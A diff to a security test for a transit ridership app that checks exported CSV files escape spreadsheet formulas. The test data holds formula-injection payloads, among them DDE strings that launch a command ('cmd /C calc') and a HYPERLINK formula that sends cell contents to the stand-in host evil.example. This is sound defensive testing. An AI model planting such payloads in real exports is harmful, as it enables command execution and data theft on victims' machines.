@@ -23,11 +23,11 @@ from tests.mqtt_probe import wait_until
 from tests.security.web_helpers import Browser, device, signed_in
 
 DAY = date(2026, 11, 25)
+# the bus number must be the bus's own (ingest checks it); every other string is its word
 FORMULAS = {
-    "vehicle": "@SUM(1+1)*cmd|' /C calc'!A0",
     "route_id": "+1+cmd|' /C calc'!A0",
     "trip_id": "-2+3+cmd|' /C calc'!A0",
-    "stop_id": "=1+1",
+    "stop_id": "@SUM(1+1)*cmd|' /C calc'!A0",
     "stop_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
 }
 
@@ -52,7 +52,7 @@ def evil_bus(web_hub: Hub, fleet: Fleet, broker: MosquittoProcess) -> None:  # n
     with device(fleet, broker, "bus-01", "ridership") as bus:
         for v in (
             visit(1, 5, 0, "07:30", **FORMULAS),
-            visit(2, 0, 5, "07:40", **{**FORMULAS, "stop_id": "@2"}),
+            visit(2, 0, 5, "07:40", **{**FORMULAS, "stop_id": "\t=2+2"}),
         ):
             bus.event("ridership.stop_visit", v, created=datetime.fromisoformat(v["departure"]))
         wait_until(lambda: web_hub.store.count_events() == 2, 15, "visits stored")
@@ -78,8 +78,8 @@ def test_exports_carry_no_formula_a_spreadsheet_would_run(web_hub: Hub, evil_bus
     rows = list(csv.DictReader(io.StringIO(table.text.lstrip("\ufeff"))))
     assert len(rows) == 2
     for key, value in FORMULAS.items():
-        if key != "stop_id":
-            assert rows[0][key] == "'" + value  # kept readable, just not run
+        assert rows[0][key] == "'" + value  # kept readable, just not run
+    assert rows[1]["stop_id"] == "'\t=2+2" and rows[0]["vehicle"] == "bus-01"
     assert rows[0]["boardings"] == "5" and rows[1]["alightings"] == "5"  # numbers stay numbers
     feed = clerk.get("/ridership/gtfs-ride.zip" + q)
     assert feed.status == 200
